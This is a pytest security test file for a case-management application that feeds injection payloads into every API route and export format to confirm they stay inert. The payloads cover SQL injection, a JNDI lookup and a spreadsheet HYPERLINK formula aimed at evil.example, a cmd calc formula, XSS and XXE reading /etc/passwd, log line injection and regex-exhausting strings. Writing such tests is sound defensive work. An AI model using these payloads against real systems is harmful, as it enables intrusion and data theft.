"""Words of people where something might run them: SQL, spreadsheets, pages, PDF, XML, logs, patterns."""

from __future__ import annotations

import io
import logging
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pyarrow as pa
import pytest
from pypdf import PdfReader

from clearbay.apply.cases import Casework, Draft
from clearbay.apply.cases.cap import Notice, alert
from clearbay.model.case import Actor, Place
from clearbay.model.errors import ClearbayError
from clearbay.packs import units
from clearbay.share import access, case_pdf, exports
from clearbay.share.parameters import query_names
from clearbay.share.routers import ROUTERS

from .conftest import Stand

ALL = Actor("all", "All", frozenset({"operator"}), "100000")
SQL = (
    "' OR 1=1 --",
    "'; DROP TABLE case_file; --",
    '" OR ""="',
    "1 UNION SELECT id, password FROM person",
    "%' AND '1'='1",
    "\\",
    "\\' OR 1=1 --",
    "a' || (SELECT password FROM person) || '",
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "%",
    "_",
    "\x00' OR 1=1",
    "read_csv_auto('/etc/passwd')",
    "COPY x TO '/tmp/x'",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
)
ROUTES = {
    route.path: sorted(query_names(route.endpoint))
    for router, _ in ROUTERS
    for route in router.routes
    if "GET" in route.methods and route.path != "/api/events/stream"
}
TOLD = re.compile(
    r"sqlite|duckdb|sqlalchemy|psycopg|syntax error|near \"|no such (table|column)|\$argon2|root:x:", re.I
)


@pytest.mark.parametrize("path", sorted(ROUTES))
def test_no_word_becomes_a_statement(stand: Stand, path: str) -> None:
    """In every parameter of every GET: an answer or a refusal, in our own words, and everything is still there."""
    client, heads = stand.client(), stand.signed("all")
    before = client.get("/api/people?limit=500", headers=heads).json()
    whole = bool(set(ROUTES[path]) & {"q", "cursor"}) or "{" in path
    for word in SQL if whole else SQL[::5]:
        address = path
        for name in ("id", "mn", "code", "kind"):
            address = address.replace(
                f"{{{name}}}", word.replace("/", "%2F").replace("\x00", "%00").replace("?", "%3F")
            )
        address = address.replace("{number}", "1")
        for name in ROUTES[path] or [""]:
            answer = client.get(address, params={name: word} if name else {}, headers=heads)
            assert answer.status_code < 500, (address, name, word, answer.text)
            said = answer.text.replace(word, "") if "json" in answer.headers.get("content-type", "") else ""
            assert not TOLD.search(said), (address, name, word, said[:300])
    assert client.get("/api/people?limit=500", headers=heads).json() == before


@pytest.mark.parametrize("word", SQL)
def test_no_word_of_sensorthings_becomes_a_statement(stand: Stand, word: str) -> None:
    quoted = word.replace("'", "''")
    for option in (f"name eq '{quoted}'", f"substringof('{quoted}',name)", word, f"name eq '{word}'"):
        for key in ("$filter", "$orderby", "$select", "$expand", "$skiptoken"):
            answer = stand.client().get("/sta/v1.1/Things", params={key: option})
            assert answer.status_code < 500, (key, option, answer.text)
    assert stand.client().get(f"/sta/v1.1/Things('{word}')".replace("\x00", "%00")).status_code < 500


def test_wildcards_are_letters(stand: Stand) -> None:
    """``%`` and ``_`` of somebody who searches stand for themselves, in any list."""
    work = Casework(stand.home)
    for title in ("one hundred", "100% foam", "under_score", "back\\slash"):
        work.open(ALL, Draft("pollution-alarm", title, jurisdiction="440300"))
    client, heads = stand.client(), stand.signed("all")
    for word, found in (("%", 1), ("_", 1), ("\\", 1), ("%%", 0), ("1%f", 0), ("100%", 1)):
        assert client.get("/api/cases", params={"q": word}, headers=heads).json()["total"] == found, word
    for word in ("%", "_", "du_y"):
        assert client.get("/api/people", params={"q": word}, headers=heads).json()["total"] == 0, word


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM",
        '=HYPERLINK("https://evil.example")',
        "\ufeff=1",
    ],
)
def test_no_cell_becomes_a_formula(cell: str) -> None:
    """What a spreadsheet would run is quoted, in half and full width, behind blanks too; numbers stay numbers."""
    table = exports.harmless(pa.table({"a": [cell, "-1.5", "plain", None]}))
    first, number, plain, none = table["a"].to_pylist()
    assert first == f"'{cell}"
    assert (number, plain, none) == ("-1.5", "plain", None)


MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<para><b>x</para>",
    "</info><info>",
    "&lt;b&gt; &amp; &",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %n %(x)s {0} {x}",
    "<img src='file:///etc/passwd'/>",
    "\u202egnp.exe",
)


@pytest.mark.parametrize("words", MARKUP)
def test_words_stay_words_in_every_form(stand: Stand, words: str) -> None:
    """In JSON, PDF and CAP a text is what was written, and nothing of it is carried out."""
    work = Casework(stand.home)
    made = work.open(
        ALL, Draft("pollution-alarm", words, text=words, jurisdiction="440300", place=Place(114.0, 22.5, words))
    )
    work.comment(ALL, made.id, words)
    clean = made.title
    answer = stand.client().get(f"/api/cases/{made.id}", headers=stand.signed("all"))
    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["title"] == clean
    dossier = work.dossier(ALL, made.id)
    pages = PdfReader(io.BytesIO(case_pdf.pdf(dossier, "en"))).pages
    shown = "".join(page.extract_text() for page in pages)
    assert "root:" not in shown
    assert clean.split()[0][:8] in shown
    assert not any("/JS" in str(page.get_object()) or "/URI" in str(page.get_object()) for page in pages)
    content = alert(dossier, Notice("tests@bay.example"), sent=work.clock())
    root = ET.fromstring(content)
    space = "{urn:oasis:names:tc:emergency:cap:1.2}"
    assert len(root.findall(f"{space}info")) == 4
    assert clean in (root.findtext(f"{space}info/{space}description") or "")


def test_markup_is_refused_from_people_without_an_account(stand: Stand) -> None:
    """A complaint is plain words; what it echoes can be no page."""
    given = {"subject": "water", "text": "foam <script>alert(1)</script> on the river", "jurisdiction": "440300"}
    answer = stand.client().post("/api/complaints", json=given)
    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/problem+json"


def test_no_line_is_slipped_into_the_log(stand: Stand, caplog: pytest.LogCaptureFixture, monkeypatch) -> None:
    """An address with line breaks is one line of the log, also where the server fails on it."""

    def fails(*_: object) -> None:
        raise RuntimeError("as if")

    monkeypatch.setattr("clearbay.web.interface.Interface.answer", fails)
    with caplog.at_level(logging.ERROR):
        answer = stand.client().get("/a%0dERROR:%20all%20is%20lost")
    assert answer.status_code == 500
    assert "as if" not in answer.text
    written = [record.getMessage() for record in caplog.records]
    assert written
    assert all("\n" not in line and "\r" not in line for line in written)


NASTY = (
    "a" * 4000 + "!",
    " " * 4000 + "!",
    "<" + " " * 4000,
    "1" * 4000 + "x",
    "a.b" * 1400 + "@",
    "/" * 4000,
    "(" * 4000,
    "-" * 4000 + "1",
    "1,1;" * 1000 + "x",
    "aA1 " * 1000 + "\x00",
    "%41" * 1300 + "%",
    "<a " * 1300,
    "a@" + "a." * 2000,
    "\t \n" * 1300 + "x",
    "'" * 4000,
    "1.1e" * 1000,
)


def test_a_unit_has_an_end() -> None:
    """Units come with readings; whoever sends one of thousands of letters keeps nobody waiting."""
    for word in NASTY:
        with pytest.raises(ClearbayError):
            units.parse(word)


def test_pages_are_written_as_text() -> None:
    """The interface puts words on the screen as text: no template, no library is handed markup."""
    folder = Path(__file__).parents[2] / "ui" / "src"
    markup = re.compile(
        r"v-html|innerHTML|outerHTML|insertAdjacentHTML|document\.write|\.setHTML\(|new Function|\beval\("
    )
    found = [
        f"{path.relative_to(folder)}: {line.strip()[:100]}"
        for path in sorted([*folder.rglob("*.vue"), *folder.rglob("*.ts")])
        for line in path.read_text(encoding="utf-8").splitlines()
        if markup.search(line) and not path.name.endswith(".test.ts")
    ]
    assert not found


def test_every_route_is_tried() -> None:
    """What stands in no list here is in the other tests: the table of routes is the application's own."""
    known = {one.path for one in access.routes() if one.method == "GET" and one.path.startswith("/api/")}
    assert known - set(ROUTES) <= {"/api/events/stream"}
